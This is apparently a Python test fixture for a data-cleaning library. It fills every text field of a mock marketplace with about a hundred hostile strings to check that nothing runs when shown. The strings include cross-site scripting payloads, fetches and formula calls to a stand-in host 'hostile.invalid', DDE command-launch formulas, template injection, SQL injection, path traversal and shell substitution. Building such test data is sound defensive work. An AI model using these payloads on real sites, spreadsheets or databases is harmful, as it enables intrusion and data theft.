"""A hundred hostile texts, and a market that has them in every field that takes text.

Each that could run calls `hit(N)`, asks an address that ends in `hit-N`, or changes the title of the page; a browser that has shown all
and saw none of it has run none.
"""

from __future__ import annotations

from typing import Any

from tests.markets import CARD, PHONE, market
from tnskit.cleaning.market import Market
from tnskit.cleaning.schema import TABLES

GONE = "http://hostile.invalid/hit"
_JS = ["hit()", "document.title='hit'", "window.struck=1", "parent.struck=1", f"fetch('{GONE}')"]
_TAGS = [
    "<script>{js}</script>", "<ScRiPt>{js}</sCrIpT>", "<script src=//hostile.invalid/hit></script>", "</script><script>{js}</script>",
    "<img src=x onerror={js}>", '"><img src=x onerror="{js}">', "'><svg onload={js}>", "<svg/onload={js}>", "<svg><script>{js}</script></svg>",
    '<svg><animate onbegin="{js}" attributeName=x dur=1s>', "<body onload={js}>", "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<iframe src=javascript:{js}></iframe>", "<details open ontoggle={js}>", "<video><source onerror={js}></video>", "<audio src=x onerror={js}>",
    "<input autofocus onfocus={js}>", "<select autofocus onfocus={js}>", "<marquee onstart={js}>x</marquee>",
    "<object data=javascript:{js}>", "<embed src=javascript:{js}>", "<a href=javascript:{js}>click</a>", "<form action=javascript:{js}><input type=submit>",
    "<math><mtext><img src=x onerror={js}></mtext></math>", "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<template><img src=x onerror={js}></template>", "<textarea></textarea><img src=x onerror={js}>", "<title></title><script>{js}</script>",
    "<!--><img src=x onerror={js}>-->", "]]><script>{js}</script>",
]  # fmt: skip
_STYLES = [
    f"<style>@import '{GONE}';</style>", f"<style>*{{background:url({GONE})}}</style>", f"<link rel=stylesheet href={GONE}>",
    f"<div style=background:url({GONE})>", f"<img src={GONE}>", f"<img srcset={GONE}>", f"<base href={GONE}>", f"<meta http-equiv=refresh content='0;url={GONE}'>",
    f"![x]({GONE})", f"[x](javascript:{_JS[0]})", f"<picture><source srcset={GONE}><img></picture>", f"<link rel=prefetch href={GONE}>",
    f"<svg><image href={GONE}></svg>", f"<svg><use href={GONE}#x></svg>",
]  # fmt: skip
_TEMPLATES = ["{{7*7}}", "{{constructor.constructor('hit()')()}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%raw%}", "%s%n%x", "{0.__class__}", "{__import__('os')}", "$$\\href{javascript:hit()}{x}$$", "\\input{/etc/passwd}", "`id`", "$(id)"]  # fmt: skip
FORMULAS = ["=1+1", "=HYPERLINK(\"http://hostile.invalid/hit\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=WEBSERVICE(\"http://hostile.invalid/hit\")", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "=IMPORTXML(\"http://hostile.invalid/hit\",\"//a\")", ";=1+1", "=DDE(\"cmd\",\"/C calc\",\"x\")"]  # fmt: skip
_SIGNS = ["\u202eecila\u202c", "\u2066a\u2069", "a\u200bb", "\ufeffa", "\u200d\u200d", "a\u0301" * 40, "\u0000a", "\x1b[31mred\x1b[0m", "\x07bell", "\u2028line", "\U0001f469\u200d\U0001f469", "ﷺ" * 20, "'; DROP TABLE accounts; --", "' OR 1=1 --", "..\\..\\x", "../../etc/passwd", "NUL", "\ud83d".encode("utf-16", "surrogatepass").decode("utf-16", "replace")]  # fmt: skip
PAYLOADS = tuple(
    [tag.format(js=_JS[number % len(_JS)]) for number, tag in enumerate(_TAGS)] + [tag.format(js=_JS[0]) for tag in _TAGS[4:12]]
    + _STYLES + _TEMPLATES + FORMULAS + _SIGNS + ["<img src=x onerror=hit()>" + "A" * 1_000_000]
)  # fmt: skip
IDS = tuple(f"{number}{one[:90]}" for number, one in enumerate(PAYLOADS))
"""Account ids: hostile too, and each its own."""

_TIMES = {"at": "2024-03-01T10:00:00Z", "day": "2024-03-01", "year": "1980", "int": "1", "money": "100", "bool": "true"}
_KEPT = {"accounts": "account_id", "phones": "phone_raw", "instruments": "fingerprint"}


def hostile_market() -> Market:
    """A market in which every text of every table is one of the hundred; two accounts for each share a phone and a card."""
    return market([_filled("accounts", number, account_id=IDS[number], status="active", merged_into="", erased_at="", closed_at="") for number in range(len(PAYLOADS))],
                  **{name: _rows(name) for name in TABLES if name not in {"accounts", "ip_ranges", "suppressions", "identifiers", "dissociations"}})  # fmt: skip


def _filled(table: str, number: int, **fixed: Any) -> dict[str, Any]:
    """A row of a table whose texts are the payload of this number, and the next ones."""
    row, at = {}, number
    for column in TABLES[table].columns:
        if column.name in fixed:
            row[column.name] = fixed[column.name]
        elif column.type in _TIMES:
            row[column.name] = _TIMES[column.type]
        else:
            row[column.name] = PAYLOADS[at % len(PAYLOADS)]
            at += 1
    return row


def _rows(table: str) -> list[dict[str, Any]]:
    names = [column.name for column in TABLES[table].columns]
    made = []
    for number in range(len(PAYLOADS)):
        fixed: dict[str, Any] = {name: IDS[number] for name in names if name == "account_id" or name.endswith("_account_id")}
        fixed |= {"phone_raw": PHONE[:-2] + f"{number // 2:02}", "phone_e164": ""} if table == "phones" else {}
        fixed |= {"fingerprint": f"{CARD}{number // 2}", "kind": "card"} if table == "instruments" else {}
        fixed |= {"payer_id": IDS[number], "payee_id": IDS[number - 1]} if table == "payments" else {}
        made.append(_filled(table, number, **fixed))
    return made
